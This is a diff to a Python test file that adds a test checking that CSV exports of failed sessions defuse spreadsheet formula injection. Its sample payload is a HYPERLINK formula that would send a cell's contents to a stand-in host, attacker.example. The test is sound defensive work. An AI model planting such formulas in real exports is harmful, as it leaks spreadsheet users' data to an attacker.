@@ -3,15 +3,24 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 import urllib.parse
+from dataclasses import replace
+from pathlib import Path
 
 import pyoxigraph as ox
 import pytest
 
+from tgsparql.rdf import vocab
+from tgsparql.rdf.iris import SessionIds
 from tgsparql.rdf.templates import Templates
+from tgsparql.serve.config import ServerConfig
+from tgsparql.serve.jobs import SavedJob
+from tgsparql.serve.readonly import open_served
 from tgsparql.serve.saved import saved_queries
+from tgsparql.stores.store import open_store
 
 from .conftest import FAILED_ERROR, FAILED_QUESTION, Served
 
@@ -70,6 +79,30 @@ def test_failed_sessions_with_their_errors(served: Served) -> None:
                                                              "session")
     assert rows(served, "failed_sessions", "error_contains=TIMED+OUT") == [row]
     assert rows(served, "failed_sessions", "error_contains=quota") == []
+
+
+def test_a_question_cannot_plant_a_formula_in_a_csv(tmp_path: Path) -> None:
+    """A failed session's question is a cell of failed_sessions.csv: one that a spreadsheet
+    would run is neutralised, unless the server is started with --csv-raw."""
+    formula = "=HYPERLINK(\"https://attacker.example/?\"&A1, \"click\")"
+    store = open_store(tmp_path / "store")
+    ids, started = SessionIds.new(), dt.datetime(2024, 5, 1, tzinfo=dt.timezone.utc)
+    graph = vocab.DEFAULT_COLLECTION.graph
+    store.run("record_session", graph=graph, session=ids.session, question=formula,
+              started=started)
+    store.run("record_failure", graph=graph, session=ids.session, error="-1 tokens left",
+              ended=started, started=started)
+    store.close()
+    config = ServerConfig(store=tmp_path / "store")
+
+    def cells(config: ServerConfig) -> tuple[str, str]:
+        with open_served(config) as served:
+            answer = SavedJob("failed_sessions", {}, "csv").answer(served, config)
+        (row,) = csv.DictReader(io.StringIO(answer.body.decode("utf-8")))
+        return row["question"], row["error"]
+
+    assert cells(config) == ("'" + formula, "'-1 tokens left")
+    assert cells(replace(config, csv_raw=True)) == (formula, "-1 tokens left")
 
 
 def test_pandas_reads_the_csv_url(served: Served) -> None:
